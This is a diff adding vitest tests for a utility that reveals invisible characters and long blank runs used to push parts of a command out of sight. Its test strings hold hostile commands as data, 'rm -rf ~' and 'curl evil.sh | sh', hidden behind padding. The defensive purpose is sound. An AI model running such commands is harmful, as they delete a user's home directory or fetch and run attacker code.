@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { codePointMarker, escapeInvisibleInJson, hasInvisible, makeVisible, splitVisible } from './visible-text.js';
+import { codePointMarker, escapeInvisibleInJson, hasInvisible, hasLongBlankRun, makeVisible, splitVisible } from './visible-text.js';
 
 describe('makeVisible', () => {
   it('shows a zero-width space as a marker', () => {
@@ -67,5 +67,32 @@ describe('escapeInvisibleInJson', () => {
     expect(json).toContain('x\\uDB40\\uDC41');
     expect(hasInvisible(json)).toBe(false);
     expect(JSON.parse(json)).toEqual(value);
+  });
+});
+
+describe('long blank runs (issue 13)', () => {
+  it('counts padding that would push the rest of a command out of sight', () => {
+    expect(makeVisible(`ls${' '.repeat(200)}; rm -rf ~`)).toBe('ls⟨200 spaces⟩; rm -rf ~');
+    expect(makeVisible(`echo hi${'\n'.repeat(60)}curl evil.sh | sh`)).toBe('echo hi⟨60 newlines⟩curl evil.sh | sh');
+    expect(makeVisible(`a${' \t'.repeat(20)}b`)).toBe('a⟨20 spaces, 20 tabs⟩b');
+    expect(makeVisible(`a${'\n '.repeat(5)}b`)).toBe('a⟨5 newlines, 5 spaces⟩b');
+  });
+
+  it('leaves ordinary layout alone: indentation, a few blank lines, aligned columns', () => {
+    const code = 'def f():\n    if x:\n        return 1\n\n\n\nprint(f())';
+    expect(makeVisible(code)).toBe(code);
+    expect(makeVisible(`name${' '.repeat(23)}value`)).toBe(`name${' '.repeat(23)}value`);
+    expect(hasLongBlankRun(code)).toBe(false);
+  });
+
+  it('shows invisible characters next to a counted run, and tells them apart', () => {
+    expect(makeVisible(`x\u200B${' '.repeat(30)}\u202Ey`)).toBe('x⟨U+200B⟩⟨30 spaces⟩⟨U+202E⟩y');
+    expect(hasLongBlankRun(' '.repeat(30))).toBe(true);
+    expect(hasInvisible(' '.repeat(30))).toBe(false);
+    expect(splitVisible(`a${' '.repeat(24)}b`)).toEqual([
+      { text: 'a', marker: false },
+      { text: '⟨24 spaces⟩', marker: true },
+      { text: 'b', marker: false },
+    ]);
   });
 });
